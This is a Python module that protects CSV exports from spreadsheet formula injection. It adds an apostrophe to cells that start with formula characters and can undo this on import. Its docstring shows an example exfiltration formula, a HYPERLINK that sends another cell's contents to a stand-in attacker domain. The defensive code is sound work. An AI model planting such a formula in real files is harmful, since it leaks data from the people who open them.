"""Text cells of the CSV files people open in Excel, kept as text (CSV injection).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula; a learner's name from the LMS such as
``=HYPERLINK("https://evil.example?"&A2)`` would run on the manager's computer. Such a cell
is written with a leading apostrophe, which spreadsheets show as "this is text" (OWASP's
advice). :func:`restore` undoes it exactly, so a file the tool wrote reads back the same
(the occasions' import format is also its export format).

Written here rather than taken from ``defusedcsv``: that package has no type information,
leaves a leading tab or carriage return alone and cannot be undone for a round trip.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

_FORMULA = re.compile("'*[=+\\-@\t\r]")
"""A formula's first character, after any apostrophes (so that one added is one removed)."""


def defuse(cell: object) -> object:
    """``cell`` as a spreadsheet keeps it: text a spreadsheet would read as a formula gets a
    leading apostrophe; numbers, dates and other text are left as they are."""
    if isinstance(cell, str) and _FORMULA.match(cell):
        return "'" + cell
    return cell


def defused(row: Iterable[object]) -> list[object]:
    """Every cell of ``row`` through :func:`defuse`, for ``csv.writer.writerow``."""
    return [defuse(cell) for cell in row]


def restore(cell: str) -> str:
    """The text :func:`defuse` was given, from what it wrote (other text unchanged)."""
    if cell.startswith("'") and _FORMULA.match(cell):
        return cell[1:]
    return cell
